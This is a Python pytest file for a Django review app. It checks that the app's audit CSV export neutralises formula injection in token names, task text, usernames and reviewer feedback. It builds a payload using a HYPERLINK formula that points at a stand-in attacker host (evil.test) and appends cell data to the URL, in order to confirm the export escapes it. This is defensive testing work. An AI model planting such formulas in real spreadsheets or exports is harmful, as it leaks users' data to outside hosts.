"""The audit CSV escapes every column a person or agent wrote, so no cell runs as a formula."""

from __future__ import annotations

import csv
import io

import pytest

from jazzmine_web.reviews.models import Submission
from jazzmine_web.reviews.services import submission_reject
from jazzmine_web.teams.services import api_token_create

from .conftest import submit

pytestmark = pytest.mark.django_db

FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_token_name_task_feedback_or_username_starting_a_formula_is_escaped(
    start, member, ecommerce, reviewer, reviewer_client, django_user_model
) -> None:
    from django.test import Client

    payload = f'{start}HYPERLINK("http://evil.test/?"&A1,"x")'
    issued = api_token_create(user=member, name=payload)
    agent = Client(HTTP_AUTHORIZATION=f"Bearer {issued.raw}")
    state = submit(agent, ecommerce, task=payload).json()
    reviewer.username = payload
    reviewer.save()
    submission_reject(
        submission=Submission.objects.get(pk=state["id"]), user=reviewer, feedback=payload
    )

    response = reviewer_client.get("/reviews/audit/?format=csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    cells = [cell for row in rows[1:] for cell in row]
    assert any(payload in cell for cell in cells)  # the text is there, made inert
    for cell in cells:
        assert cell.lstrip(" ")[:1] not in FORMULA_STARTS, cell
